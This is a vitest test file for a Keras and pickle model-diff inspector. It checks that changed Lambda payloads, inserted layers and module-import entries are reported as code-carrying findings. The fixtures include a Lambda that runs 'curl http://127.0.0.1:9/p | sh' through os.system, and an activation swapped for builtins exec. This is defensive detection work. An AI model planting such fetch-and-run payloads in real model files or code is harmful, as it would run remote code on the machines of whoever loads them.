/**
 * `diffModels` on real Keras 3.15.1 saves (tests/fixtures) and variants derived from them by
 * scripts/fixtures/diff-variants.py (tests/fixtures/diff): the outcomes issue 16 asks for.
 */
import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { inboundEdges } from '../../src/core/diff/normalise';
import { diffCode } from '../../src/core/diff/code-diff';
import { changedLines, disassemblyKey } from '../../src/core/diff/lines';
import { decodeBase64 } from '../../src/core/keras/payload-bytes';
import { dfx, diffFiles, fx, kinds, ofKind, side } from './diff-sides';

describe('the same model saved twice', () => {
  it('differs only in the save date and the container records of the rewritten members', async () => {
    const d = await diffFiles(dfx('echo_a.keras'), dfx('echo_a_resaved.keras'));
    expect(d.summary.codeChanged).toBe(false);
    expect(d.summary.architectureChanged).toBe(false);
    expect(d.summary.payloads).toEqual({ a: 1, b: 1, same: 1 });
    expect(kinds(d)).toEqual(['container-changed', 'metadata-changed']);
    expect(ofKind(d, 'metadata-changed')).toEqual([
      { kind: 'metadata-changed', codeCarrying: false, key: 'date_saved', from: '2026-11-27@20:04:07', to: '2026-12-01@09:15:42' },
    ]);
    // config.json's bytes differ (a new shared_object_id), its meaning does not; the weights member is identical.
    expect(ofKind(d, 'container-changed').map((x) => x.record.name).sort()).toEqual(['config.json', 'metadata.json']);
    expect(d.unmatched).toEqual([]);
  });
  it('a file against itself has no difference at all', async () => {
    const d = await diffFiles(fx('resnet_like_graph.keras'), fx('resnet_like_graph.keras'));
    expect(d.differences).toEqual([]);
    expect(d.summary.layers).toEqual({ a: 309, b: 309, matched: 309 });
    expect(d.matches.every((m) => m.by === 'path')).toBe(true);
  });
});

describe('a Lambda whose constant changed', () => {
  it('is one payload change naming the constant, with both sides decoded', async () => {
    const d = await diffFiles(dfx('echo_a.keras'), dfx('curl_sh.keras'));
    expect(d.summary.codeChanged).toBe(true);
    expect(d.summary.architectureChanged).toBe(false);
    const [p, ...more] = ofKind(d, 'payload-changed');
    expect(more).toEqual([]);
    expect(p.changes).toEqual([{ codeObject: '<lambda>', field: 'const', index: 2, from: "'echo a'", to: "'curl http://127.0.0.1:9/p | sh'" }]);
    expect(p.a.layer).toBe('func_lambda_benign/scale_by_two');
    expect(p.a.source).toBe("lambda x: (__import__('os').system('echo a'), x)[1]\n");
    expect(p.b.source).toBe("lambda x: (__import__('os').system('curl http://127.0.0.1:9/p | sh'), x)[1]\n");
    expect(p.a.disassembly).toMatch(/LOAD_CONST\s+2 \('echo a'\)/);
    expect(p.b.indicators.some((i) => i.startsWith('network:'))).toBe(true);
    expect(p.a.sha256).not.toBe(p.b.sha256);
    // The changed lines: the one source line, and in the disassembly only the LOAD_CONST of the constant.
    expect(p.lines?.source).toEqual({ a: [0], b: [0] });
    const [da] = p.lines!.disassembly!.a;
    expect(p.lines!.disassembly).toEqual({ a: [da], b: [da] });
    expect(p.a.disassembly!.split('\n')[da]).toMatch(/LOAD_CONST\s+2 \('echo a'\)$/);
    expect(p.b.disassembly!.split('\n')[da]).toMatch(/LOAD_CONST\s+2 \('curl http:\/\/127.0.0.1:9\/p \| sh'\)$/);
    // The container says the config changed, the weights did not.
    expect(ofKind(d, 'container-changed').map((x) => x.record.name)).toEqual(['config.json']);
  });
  it('a changed instruction stream or an unreadable side is said, not hidden', () => {
    const a = decodeBase64('4wEAAAAAAAAAAAAAAAIAAAATAAAA8wwAAACXAHwAZAF6BQAAUwApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg+g50cmFpbl9tb2RlbC5wefoIPGxhbWJkYT76G2J1aWxkX2FsbC48bG9jYWxzPi48bGFtYmRhPrQBAADzCgAAAIAAoEGoA6FHgADzAAAAAA==')!;
    const broken = a.slice(0, 20);
    const changes = diffCode({ bytes: a, version: '3.11' }, { bytes: broken, version: '3.11' });
    expect(changes).toHaveLength(1);
    expect(changes[0].field).toBe('decoding');
    expect(changes[0].from).toBe('code object');
    expect(diffCode({ bytes: a, version: '3.11', defaults: [1] }, { bytes: a, version: '3.11', defaults: [2] })).toEqual([{ codeObject: '', field: 'defaults', from: '[1]', to: '[2]' }]);
  });
});

describe('changed lines', () => {
  const before = ['  1           0 RESUME                   0', '              2 LOAD_FAST                0 (x)', '              4 LOAD_CONST               1 (2)', '              6 BINARY_OP                5 (*)', '             10 RETURN_VALUE'].join('\n');
  it('an inserted instruction marks itself, not every later line whose offset moved', () => {
    const after = ['  1           0 RESUME                   0', '              2 LOAD_FAST                0 (x)', '              4 NOP', '              6 LOAD_CONST               1 (2)', '              8 BINARY_OP                5 (*)', '             12 RETURN_VALUE'].join('\n');
    expect(changedLines(before, after, disassemblyKey)).toEqual({ a: [], b: [2] });
    // Compared as plain text, every line after the insertion would be marked.
    expect(changedLines(before, after)!.b).toEqual([2, 3, 4, 5]);
  });
  it('a changed constant marks its line on both sides; a middle too large to align is not marked', () => {
    expect(changedLines(before, before.replace('1 (2)', '1 (3)'), disassemblyKey)).toEqual({ a: [2], b: [2] });
    const big = (n: number, tag: string) => Array.from({ length: n }, (_, i) => `${tag}${i}`).join('\n');
    expect(changedLines(big(3000, 'a'), big(3000, 'b'))).toBeNull();
    expect(changedLines(`x\n${big(3000, 'a')}`, `y\n${big(3000, 'a')}`)).toEqual({ a: [0], b: [0] });
  });
});

describe('a copy with one Lambda inserted', () => {
  it('shows the new layer, its payload and finding, and the rewired edge', async () => {
    const d = await diffFiles(fx('func_lambda_benign.keras'), dfx('lambda_inserted.keras'));
    expect(d.summary.codeChanged).toBe(true);
    expect(ofKind(d, 'layer-added')).toEqual([
      { kind: 'layer-added', codeCarrying: true, layer: 'func_lambda_benign/extra', className: 'Lambda', document: 'config.json', location: '/config/layers/3' },
    ]);
    expect(ofKind(d, 'layer-removed')).toEqual([]);
    const [added] = ofKind(d, 'payload-added');
    expect(added.b.layer).toBe('func_lambda_benign/extra');
    expect(added.b.strings).toContain('echo a');
    expect(ofKind(d, 'finding-added').map((f) => [f.rule, f.layer, f.codeCarrying])).toEqual([['R-K3-LAMBDA', 'func_lambda_benign/extra', true]]);
    expect(ofKind(d, 'inbound-changed')).toEqual([
      {
        kind: 'inbound-changed',
        codeCarrying: false,
        a: 'func_lambda_benign/probs',
        b: 'func_lambda_benign/probs',
        from: [[{ layer: 'scale_by_two', node: 0, tensor: 0 }]],
        to: [[{ layer: 'extra', node: 0, tensor: 0 }]],
      },
    ]);
    // The original payload is untouched; no weight dataset changed shape (the new group holds none).
    expect(d.summary.payloads).toEqual({ a: 1, b: 2, same: 1 });
    expect(ofKind(d, 'container-changed').filter((x) => x.record.part === 'dataset')).toEqual([]);
  });
  it('the other way round, the Lambda is removed', async () => {
    const d = await diffFiles(dfx('lambda_inserted.keras'), fx('func_lambda_benign.keras'));
    expect(d.summary.codeChanged).toBe(true);
    expect(ofKind(d, 'layer-removed').map((x) => x.layer)).toEqual(['func_lambda_benign/extra']);
    expect(ofKind(d, 'payload-removed').map((x) => x.a.layer)).toEqual(['func_lambda_benign/extra']);
    expect(ofKind(d, 'finding-removed').map((x) => x.rule)).toEqual(['R-K3-LAMBDA']);
  });
});

describe('an activation replaced by a module-import entry', () => {
  it('is a code-carrying config change at its pointer and a finding on one side', async () => {
    const d = await diffFiles(fx('func_lambda_benign.keras'), dfx('activation_module.keras'));
    expect(d.summary.codeChanged).toBe(true);
    expect(ofKind(d, 'config-changed')).toEqual([
      {
        kind: 'config-changed',
        codeCarrying: true,
        a: 'func_lambda_benign/hidden',
        b: 'func_lambda_benign/hidden',
        pointer: '/config/activation',
        change: 'changed',
        from: 'relu',
        to: { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'function' },
        at: { a: 'config.json/config/layers/1/config/activation', b: 'config.json/config/layers/1/config/activation' },
      },
    ]);
    const added = ofKind(d, 'finding-added');
    expect(added.map((f) => [f.rule, f.severity, f.layer])).toEqual([['R-K3-MODULE', 'critical', 'func_lambda_benign/hidden']]);
    expect(ofKind(d, 'payload-changed')).toEqual([]);
  });
});

describe('a renamed layer', () => {
  it('is matched by structure; its references follow it, so nothing else differs', async () => {
    const d = await diffFiles(fx('func_lambda_benign.keras'), dfx('renamed.keras'));
    expect(d.summary.codeChanged).toBe(false);
    expect(ofKind(d, 'layer-renamed')).toEqual([
      { kind: 'layer-renamed', codeCarrying: false, a: 'func_lambda_benign/hidden', b: 'func_lambda_benign/dense_hidden', className: 'Dense', by: 'structure' },
    ]);
    expect(kinds(d)).toEqual(['container-changed', 'layer-renamed']);
  });
});

describe('an .h5 against the .keras of the same model', () => {
  const pairs = readdirSync(fx('')).filter((n) => n.endsWith('.h5'));
  it('covers every real save pair in tests/fixtures', () => {
    expect(pairs.length).toBeGreaterThanOrEqual(17);
  });
  it.each(pairs)('%s: equal meaning, no architecture or code difference', async (h5) => {
    const d = await diffFiles(fx(h5), fx(h5.replace(/\.h5$/, '.keras')));
    expect(d.summary.architectureChanged).toBe(false);
    expect(d.summary.codeChanged).toBe(false);
    expect(d.summary.layers.matched).toBe(d.summary.layers.a);
    expect(d.summary.layers.a).toBe(d.summary.layers.b);
    expect(d.summary.payloads.same).toBe(d.summary.payloads.a);
    // Only the rule differs for the same payload (each container has its own loaders), and the writer facts.
    expect(kinds(d).filter((k) => k !== 'finding-changed' && k !== 'metadata-changed')).toEqual([]);
    for (const f of ofKind(d, 'finding-changed')) expect([f.a.rule, f.b.rule, f.codeCarrying]).toEqual(['R-H5-LAMBDA', 'R-K3-LAMBDA', false]);
    expect(d.notes.some((n) => /compared by shape and dtype only: (\d+) of \1 \/ \1 agree/.test(n))).toBe(true);
    expect(d.notes.some((n) => /only one save format writes them/.test(n))).toBe(true);
    expect(d.unmatched).toEqual([]);
  });
});

describe('Keras 2 inbound_nodes lists against Keras 3 args', () => {
  it('both forms normalise to the same edges', () => {
    const k3 = { inbound_nodes: [{ args: [{ class_name: '__keras_tensor__', config: { keras_history: ['hidden', 0, 0] } }], kwargs: { mask: null } }] };
    const k2 = { inbound_nodes: [[['hidden', 0, 0, {}]]] };
    expect(inboundEdges(k2)).toEqual(inboundEdges(k3));
    expect(inboundEdges(k2)).toEqual([[{ layer: 'hidden', node: 0, tensor: 0 }]]);
    expect(inboundEdges({})).toBeNull();
  });
  it('a model rewritten in the Keras 2 form equals the Keras 3 saves', async () => {
    for (const other of [fx('func_lambda_benign.keras'), fx('func_lambda_benign.h5')]) {
      const d = await diffFiles(dfx('func_lambda_benign_k2.h5'), other);
      expect(d.summary.architectureChanged).toBe(false);
      expect(d.summary.codeChanged).toBe(false);
      expect(ofKind(d, 'inbound-changed')).toEqual([]);
      expect(ofKind(d, 'config-changed')).toEqual([]);
    }
  });
  it('the two .h5 files compare their datasets by path', async () => {
    const d = await diffFiles(fx('func_lambda_benign.h5'), dfx('func_lambda_benign_k2.h5'));
    expect(ofKind(d, 'container-changed')).toEqual([]);
    expect(d.notes.some((n) => /laid out differently/.test(n))).toBe(false);
    expect((await side(fx('func_lambda_benign.h5'))).weights!.datasets.length).toBe(6);
  });
});

describe('payload slots', () => {
  it('a change to the defaults or closure beside a payload is code-carrying', async () => {
    const d = await diffFiles(fx('mal_payload_in_defaults_closure.keras'), fx('lambda_defaults_closures.keras'));
    const beside = ofKind(d, 'config-changed').filter((c) => /^\/config\/function\/config\/(defaults|closure)/.test(c.pointer));
    expect(beside.map((c) => c.pointer).sort()).toEqual(['/config/function/config/closure/0', '/config/function/config/defaults']);
    expect(beside.every((c) => c.codeCarrying)).toBe(true);
    const changes = ofKind(d, 'payload-changed').flatMap((p) => p.changes.filter((c) => c.field === 'defaults' || c.field === 'closure'));
    expect(changes.map((c) => c.from)).toEqual(['["echo inspector-test"]', '["echo inspector-test"]']);
  });
});

describe('pickles', () => {
  it('the same program at another protocol compares equal; a new dangerous import does not', async () => {
    const same = await diffFiles(fx('pickle/payload-p0.pkl'), fx('pickle/payload-p2.pkl'));
    expect(same.differences).toEqual([]);
    expect(same.notes.some((n) => /opcode reader/.test(n))).toBe(true);
    const changed = await diffFiles(fx('pickle/rich-p2.pkl'), fx('pickle/payload-p2.pkl'));
    expect(changed.summary.codeChanged).toBe(true);
    expect(ofKind(changed, 'finding-added').map((f) => [f.rule, f.severity, f.codeCarrying])).toEqual([['R-PICKLE-GLOBALS', 'critical', true]]);
  });
});

describe('what could not be compared is listed', () => {
  it('a file that is not a model is an unmatched entry, and its side has no layers', async () => {
    const d = await diffFiles(fx('README.md'), fx('no_lambda.keras'));
    expect(d.a.verdict).toBe('error');
    expect(d.unmatched.map((u) => [u.side, u.what])).toEqual([
      ['a', 'model architecture'],
      ['a', 'the file'],
      ['a', 'weight records'],
    ]);
    expect(ofKind(d, 'layer-added')).toHaveLength(6);
  });
});
